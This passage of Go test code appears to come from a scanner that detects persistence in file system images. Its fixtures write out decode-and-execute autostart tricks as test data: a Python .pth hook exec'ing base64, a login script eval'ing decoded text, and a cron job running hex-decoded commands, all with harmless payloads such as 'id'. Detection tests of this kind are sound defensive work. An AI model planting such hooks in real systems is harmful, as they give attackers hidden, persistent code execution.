		hit{rule: "interpreter-preload", layer: -1},
		hit{rule: "interpreter-preload", layer: -1},
		hit{rule: "persistence-point", path: "/etc/profile.d/node.sh", layer: 1})
	// Autostart files that decode a payload and run it, with no download on
	// the line and whatever the file is called: a Python start-up hook
	// exec'ing base64, a login script eval'ing decoded text, a cron job
	// handing printf-decoded hex to sh -c. Decoding into a file, or into a
	// variable, is not running it.
	add("test/t-autostart-decode", nil, nil, one(
		ent{name: "usr/lib/python3/dist-packages/zope_compat.pth", body: "import base64;exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))\n"},
		ent{name: "etc/profile.d/locale-fix.sh", body: "eval \"$(echo ZXhwb3J0IExBTkc9Qwo= | base64 -d)\"\n"},
		ent{name: "etc/cron.d/logsync", body: "*/5 * * * * root sh -c \"$(printf '\\x69\\x64\\x0a' | xxd -r -p)\"\n"},
		ent{name: "etc/profile.d/certs.sh", body: "echo \"$CA_B64\" | base64 -d > /usr/local/share/ca-certificates/corp.crt\nexport CA_PEM=\"$(echo \"$CA_B64\" | base64 -d)\"\n"}),
		hit{rule: "autostart-fetches-code", path: "/usr/lib/python3/dist-packages/zope_compat.pth", layer: 1},
		hit{rule: "autostart-fetches-code", path: "/etc/profile.d/locale-fix.sh", layer: 1},
		hit{rule: "autostart-fetches-code", path: "/etc/cron.d/logsync", layer: 1},
		hit{rule: "persistence-point", path: "/etc/cron.d/logsync", layer: 1},
		hit{rule: "persistence-point", path: "/etc/profile.d/certs.sh", layer: 1},
		hit{rule: "persistence-point", path: "/etc/profile.d/locale-fix.sh", layer: 1})
	return p.out
}

// elfWithMark is a 64-bit ELF of size bytes holding UPX's mark at byte at.
func elfWithMark(at, size int) string {
	b := make([]byte, size)
	copy(b, "\x7fELF\x02\x01\x01")
	copy(b[at:], "UPX!")
	return string(b)
}
